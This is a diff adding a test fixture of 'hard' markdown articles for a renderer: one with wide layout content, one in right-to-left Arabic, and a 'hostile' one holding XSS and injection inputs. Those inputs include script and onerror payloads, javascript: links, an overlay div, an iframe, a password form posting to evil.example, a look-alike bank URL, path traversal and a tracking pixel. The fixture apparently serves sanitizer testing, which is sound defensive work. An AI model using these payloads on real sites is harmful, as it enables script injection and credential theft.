@@ -1,0 +1,84 @@
+/** Articles of the kind that break layouts, and of the kind that break out of them. */
+export const hardArticles: readonly { name: string; title: string; text: string; links: Record<string, string> }[] = [
+  {
+    name: 'wide',
+    title: 'Averyverylongproductnamewithoutasinglespaceinitforwhateverreason and other wide things',
+    links: {},
+    text: `A paragraph with https://www.example.com/a/very/long/address/that/goes/on/and/on/and/on?with=parameters&and=more&until=it&is=wider&than=any&telephone=there and \`inline_code_that_is_also_quite_long_and_has_no_space_to_break_at_all\`.
+
+## A table with many columns
+
+| Region | Processor | Memory | Storage | Network | Price a month | Price a year | Notes |
+| --- | ---: | ---: | ---: | :---: | ---: | ---: | --- |
+| VA1 | 4 | 16 GB | 2,000 GB | 10 Gbit | $1,240.00 | $14,880.00 | First region, and the one with the longest note |
+
+## Code
+
+\`\`\`bash
+curl --request POST https://api.example.com/v2/servers --header "Authorization: Bearer $TOKEN" --header "Content-Type: application/json" --data '{"name":"a"}'
+\`\`\`
+
+- [x] a step that is done
+- [ ] a step with a very deep list
+  - one
+    - two
+      - three
+        - four
+
+> A quotation
+>
+> > in a quotation, with **bold** and <kbd>Ctrl</kbd>+<kbd>C</kbd>
+
+<details><summary>More</summary>
+
+Hidden until it is opened.[^1]
+
+</details>
+
+# A heading of the first level
+
+[^1]: A note at the foot of the page.
+`,
+  },
+  {
+    name: 'right-to-left',
+    title: 'تثبيت الخادم في عشر دقائق',
+    links: {},
+    text: `هذه المقالة تشرح كيفية تثبيت الخادم خطوة بخطوة.
+
+## قبل البدء
+
+1. افتح لوحة التحكم.
+2. اكتب الأمر التالي:
+
+   \`\`\`bash
+   systemctl restart server
+   \`\`\`
+
+| العمود | القيمة |
+| --- | --- |
+| الذاكرة | 16 GB |
+`,
+  },
+  {
+    name: 'hostile',
+    title: 'An article that tries <script>alert(1)</script> things',
+    links: { './wide.md': '/articles/hard/wide/' },
+    text: `## Heading
+
+<script>document.documentElement.dataset.broken = 'script'</script>
+<img src="x" onerror="document.documentElement.dataset.broken = 'image'">
+<a href="javascript:document.documentElement.dataset.broken='link'">click</a>
+<div id="kb-main" style="position:fixed;inset:0;z-index:9">over</div>
+</main></body><style>body { display: none }</style>
+<iframe src="https://evil.example/"></iframe>
+<form action="https://evil.example/"><input name="password"></form>
+<svg onload="document.documentElement.dataset.broken='svg'"></svg>
+<!-- a comment -->
+
+[one](javascript:alert(1)) [two](data:text/html,x) [three](//evil.example/) [four](https://bank.example@evil.example/) [five](../../secret.md) [six](./wide.md)
+
+![tracker](https://evil.example/pixel.png)
+`,
+  },
+];
